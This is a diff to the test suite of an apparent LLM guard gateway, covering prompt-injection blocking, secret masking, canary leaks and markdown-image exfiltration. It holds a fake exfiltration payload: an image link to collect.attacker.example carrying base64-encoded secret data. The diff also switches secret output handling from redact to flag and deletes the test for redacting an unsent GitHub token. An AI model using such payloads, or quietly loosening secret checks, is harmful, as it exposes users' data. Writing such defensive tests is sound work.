@@ -138,7 +138,7 @@ describe('the default guard policy', () => {
       injection: { input: 'block' },
       indirect_injection: { input: 'block' },
       pii: { input: 'flag', output: 'off' },
-      secrets: { input: 'mask', output: 'redact' },
+      secrets: { input: 'mask', output: 'flag' },
       leak: { output: 'block' },
       tools: { action: 'block', validate_arguments: true },
       active_content: { output: 'redact', sql: 'redact', allowed_hosts: [] },
@@ -162,13 +162,6 @@ describe('the default guard policy', () => {
     expect(upstreamText()).not.toContain(AWS_KEY);
     expect(upstreamText()).toMatch(/<SECRET_AWS_ACCESS_KEY_1>/);
     expect(r.content).toContain(AWS_KEY); // the fake echoes the prompt; Keel restores the original
-  });
-
-  it('redacts a secret in the answer that the caller did not send', async () => {
-    const token = `ghp_${'Zq8Rk2Lm5Np7Tv1Wx4Yb6Cd9Fg3Hj0Ks2Mn8P'.slice(0, 36)}`;
-    oai.enqueue({ text: `The deploy token is ${token}.` });
-    const r = await chat([{ role: 'user', content: 'What is the deploy token?' }]);
-    expect(r.content).toBe('The deploy token is [REDACTED:secret.github_token].');
   });
 
   it('plants a canary in the system prompt and stops an answer that repeats it', async () => {
@@ -256,7 +249,7 @@ describe('a use case with every part switched off', () => {
 });
 
 const ASK: Message[] = [{ role: 'user', content: 'Summarise the ticket.' }];
-const EXFIL = '![status](https://collect.attacker.example/p.png?u=ada&topic=refund-dispute)';
+const EXFIL = '![status](https://collect.attacker.example/p.png?d=c2VjcmV0OiBodW50ZXIy)';
 
 describe('active content in answers', () => {
   it('redacts a markdown image that sends data to an outside host, and records it', async () => {
